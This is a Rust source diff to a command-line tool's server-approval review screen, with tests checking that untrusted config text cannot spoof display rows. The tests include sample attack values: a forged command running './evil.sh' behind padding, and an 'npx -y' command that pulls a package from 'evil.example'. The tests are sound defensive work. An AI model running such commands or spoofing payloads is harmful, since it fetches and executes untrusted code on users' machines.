@@ -1,6 +1,7 @@
 //! The review of a server before it is approved: what it would run, its risks, and the question.
 //!
-//! The texts come from a file that is not trusted. No row begins like a row of ours, and the question repeats what runs.
+//! The texts come from a file, a registry or a link that is not trusted. No row begins like a row of ours, whatever the
+//! width of the terminal is, and the question repeats what runs.
 
 use std::io::{IsTerminal as _, Write as _};
 
@@ -8,16 +9,19 @@ use wharf::config::{Approval, EntryChange};
 
 use super::input::drop_typed_input;
 use super::message::{caution, heading, line, stderr_width};
-use super::shortened::{Line, ends, shortened};
-use super::text::{name, with_visible_blanks};
-use super::wrap::{columns, filled, middle_cut};
+use super::shortened::{Line, ends, ends_beyond, shortened};
+use super::text::{counted, name, with_visible_blanks};
+use super::wrap::{columns, marked, middle_cut};
 use crate::error::{UsageError, usage_error};
 
 /// The width of a terminal that does not report its own.
 const DEFAULT_WIDTH: usize = 80;
-/// What begins the rows that continue a value. It is as wide as a key.
-const CONTINUED: &str = "          │ ";
-
+/// What begins the first row of a value.
+const INDENT: &str = "  ";
+/// What runs and what is connected to is shown whole up to this length: a dangerous argument may be in its middle.
+const MAX_TARGET_CHARS: usize = 800;
+/// Of more risks, the others are counted.
+const MAX_CAUTIONS: usize = 16;
 /// A longer path of a changed value is shortened.
 const MAX_KEY_COLUMNS: usize = 60;
 
@@ -30,10 +34,30 @@ pub(crate) enum Detail {
 }
 
 /// One value to review.
-struct Reviewed {
+pub(crate) struct Reviewed {
     /// What the server does with it.
     key: String,
     value: String,
+    /// Up to how many characters it is shown whole, if not the usual number.
+    max_chars: Option<usize>,
+}
+
+impl Reviewed {
+    /// A value that strangers may have written, with a key of ours.
+    pub(crate) fn new(key: &str, value: &str) -> Self {
+        Self { key: key.to_owned(), value: value.to_owned(), max_chars: None }
+    }
+
+    fn target(key: &str, value: &str) -> Self {
+        Self { max_chars: Some(MAX_TARGET_CHARS), ..Self::new(key, value) }
+    }
+}
+
+/// Prints values on their own, before a question about them.
+pub(crate) fn show_values(values: &[Reviewed]) {
+    for row in rows(values, Detail::Short, stderr_width()) {
+        line(&row);
+    }
 }
 
 /// Prints what the user must review.
@@ -48,8 +72,12 @@ pub(crate) fn show_resolved(approval: &Approval, command_line: Option<&str>, det
     for row in rows(&reviewed(approval, command_line), detail, width) {
         line(&row);
     }
-    for danger in &approval.dangers {
+    for danger in approval.dangers.iter().take(MAX_CAUTIONS) {
         caution(&format!("it {danger}"));
+    }
+    let more = approval.dangers.len().saturating_sub(MAX_CAUTIONS);
+    if more > 0 {
+        caution(&format!("it has {}", counted(more, "more risk")));
     }
     if !approval.changes.is_empty() {
         heading("changes since you approved it");
@@ -61,35 +89,28 @@ pub(crate) fn show_resolved(approval: &Approval, command_line: Option<&str>, det
 
 /// Returns everything to review, in the order in which it is shown.
 fn reviewed(approval: &Approval, resolved: Option<&str>) -> Vec<Reviewed> {
-    let mut found = Vec::new();
-    let mut add = |key: &str, value: &str| found.push(Reviewed { key: key.to_owned(), value: value.to_owned() });
-    approval.command_line.iter().for_each(|command| add("run", command));
-    if let Some(command) = resolved {
-        add("that is", command);
-    }
-    approval.url.iter().for_each(|url| add("connect", url));
-    approval.cwd.iter().for_each(|cwd| add("in", cwd));
-    approval.headers_helper.iter().for_each(|helper| add("also run", helper));
-    for (variable, value) in &approval.env {
-        add("with", &format!("{variable}={value}"));
-    }
-    for (header, value) in &approval.headers {
-        add("sending", &format!("{header}: {value}"));
-    }
-    for (path, value) in &approval.more {
-        add("and", &format!("{path} = {value}"));
-    }
+    let mut found: Vec<Reviewed> = Vec::new();
+    found.extend(approval.command_line.iter().map(|command| Reviewed::target("run", command)));
+    found.extend(resolved.map(|command| Reviewed::target("that is", command)));
+    found.extend(approval.url.iter().map(|url| Reviewed::target("connect", url)));
+    found.extend(approval.cwd.iter().map(|cwd| Reviewed::new("in", cwd)));
+    found.extend(approval.headers_helper.iter().map(|helper| Reviewed::target("also run", helper)));
+    let variables = approval.env.iter().map(|(variable, value)| format!("{variable}={value}"));
+    found.extend(variables.map(|variable| Reviewed::new("with", &variable)));
+    let headers = approval.headers.iter().map(|(header, value)| format!("{header}: {value}"));
+    found.extend(headers.map(|header| Reviewed::new("sending", &header)));
+    let more = approval.more.iter().map(|(path, value)| format!("{path} = {value}"));
+    found.extend(more.map(|more| Reviewed::new("and", &more)));
     if !approval.reads.is_empty() {
-        add("reading", &format!("your {}", approval.reads.join(", ")));
+        found.push(Reviewed::new("reading", &format!("your {}", approval.reads.join(", "))));
     }
     found
 }
 
 fn changes(approval: &Approval) -> Vec<Reviewed> {
     let or_none = |value: &Option<String>| value.clone().unwrap_or_else(|| "(none)".to_owned());
-    let change = |change: &EntryChange| Reviewed {
-        key: change.what.clone(),
-        value: format!("{} → {}", or_none(&change.approved), or_none(&change.now)),
+    let change = |change: &EntryChange| {
+        Reviewed::new(&change.what, &format!("{} → {}", or_none(&change.approved), or_none(&change.now)))
     };
     approval.changes.iter().map(change).collect()
 }
@@ -100,7 +121,11 @@ impl Line for Reviewed {
     }
 
     fn short(&self) -> (String, bool) {
-        match ends(&self.value, in_one_line) {
+        let short = match self.max_chars {
+            Some(max_chars) => ends_beyond(max_chars, &self.value, in_one_line),
+            None => ends(&self.value, in_one_line),
+        };
+        match short {
             Some(short) => (self.line(&short), true),
             None => (self.whole(), false),
         }
@@ -123,11 +148,10 @@ fn rows(values: &[Reviewed], detail: Detail, width: Option<usize>) -> Vec<String
         Detail::Short => shortened(values).lines,
         Detail::Whole => values.iter().map(Line::whole).collect(),
     };
-    let room = width.unwrap_or(usize::MAX).saturating_sub(columns(CONTINUED));
     let line_rows = |line: String| {
-        let rows = filled(&line, "", room).into_iter().enumerate();
-        rows.map(|(index, row)| if index == 0 { format!("  {row}") } else { format!("{CONTINUED}{row}") })
-            .collect::<Vec<_>>()
+        let mut rows = marked(&line, columns(INDENT), width);
+        rows[0].insert_str(0, INDENT);
+        rows
     };
     lines.into_iter().flat_map(line_rows).collect()
 }
@@ -140,10 +164,15 @@ fn summary(approval: &Approval, width: usize) -> Vec<String> {
         ("runs for headers", &approval.headers_helper),
     ];
     let row = |(verb, value): (&str, &Option<String>)| {
-        let start = format!("{} {verb} ", approval.name);
+        let start = format!("{} {verb} ", middle_cut(approval.name.as_str(), width / 3));
         let value = in_one_line(value.as_ref()?);
         // One column less than the terminal has, so that no terminal breaks the row.
-        Some(format!("{start}{}", middle_cut(&value, width.saturating_sub(columns(&start) + 1))))
+        let room = width.saturating_sub(columns(&start) + 1);
+        if columns(&value) <= room {
+            return Some(format!("{start}{value}"));
+        }
+        let length = format!("({} characters) ", value.chars().count());
+        Some(format!("{start}{length}{}", middle_cut(&value, room.saturating_sub(columns(&length)))))
     };
     parts.into_iter().filter_map(row).collect()
 }
@@ -244,8 +273,14 @@ fn decide(
 mod tests {
     use super::*;
 
-    fn value(key: &str, value: &str) -> Reviewed {
-        Reviewed { key: key.to_owned(), value: value.to_owned() }
+    /// Returns what a terminal of this width shows: it breaks rows that do not fit.
+    fn screen(rows: &[String], width: usize) -> Vec<String> {
+        let mut screen = Vec::new();
+        for row in rows {
+            let chars: Vec<char> = row.chars().collect();
+            screen.extend(chars.chunks(width).map(|row| row.iter().collect::<String>()));
+        }
+        screen
     }
 
     #[test]
@@ -257,18 +292,44 @@ mod tests {
             "  run       python3 /usr/lib/safe_server.py"
         );
         for detail in [Detail::Short, Detail::Whole] {
-            let rows = rows(&[value("run", &forged)], detail, Some(80));
+            let rows = rows(&[Reviewed::target("run", &forged)], detail, Some(80));
             assert!(rows[0].starts_with("  run       ") && rows[0].contains("./evil.sh"), "{rows:#?}");
-            assert!(rows[1..].iter().all(|row| row.starts_with(CONTINUED) && columns(row) <= 80), "{rows:#?}");
+            assert!(rows[1..].iter().all(|row| row.starts_with("          │ ") && columns(row) <= 80), "{rows:#?}");
             assert!(rows.concat().contains(" spaces⟩") && rows.len() < 6, "{rows:#?}");
         }
-        let rows = rows(&[value("run", &"x".repeat(1_000))], Detail::Short, Some(80));
+        let rows = rows(&[Reviewed::target("run", &"x".repeat(1_000))], Detail::Short, Some(80));
         assert!(rows.concat().contains("(1000 characters) xxx") && rows.len() < 6, "{rows:#?}");
+    }
+
+    #[test]
+    fn no_text_forges_a_row_at_any_width() {
+        let paddings =
+            [" ", "\u{a0}", "\u{3000}", "\u{2800}", "─", "│", "·", "x", "\n", "\r\n", "\t", "\u{2028}", "   "];
+        for width in 4..=130_usize {
+            for padding in paddings {
+                for pad in [width.saturating_sub(12), width.saturating_sub(3), width - 2, width, 2 * width - 5] {
+                    let padded = format!("1.0{}  run       npx safe", padding.repeat(pad));
+                    let values = [Reviewed::new("version", &padded), Reviewed::target("run", &padded)];
+                    let rows = rows(&values, Detail::Whole, Some(width));
+                    let firsts = rows.iter().filter(|row| !row.trim_start().starts_with('│')).count();
+                    assert_eq!(firsts, 2, "{width} {padding:?}: {rows:#?}");
+                    let shown = screen(&rows, width);
+                    assert!(shown.len() == rows.len() || width < 8, "the terminal breaks a row at {width}: {rows:#?}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_command_of_usual_length_is_shown_whole() {
+        let long = format!("npx -y {} --registry=https://evil.example {} pkg", "a".repeat(300), "b".repeat(300));
+        let rows = rows(&[Reviewed::target("run", &long)], Detail::Short, None);
+        assert_eq!(rows, [format!("  run       {long}")]);
     }
 
     #[test]
     fn rows_in_a_pipe_are_not_broken() {
         let long = "x".repeat(1_000);
-        assert_eq!(rows(&[value("run", &long)], Detail::Whole, None), [format!("  run       {long}")]);
+        assert_eq!(rows(&[Reviewed::new("run", &long)], Detail::Whole, None), [format!("  run       {long}")]);
     }
 }
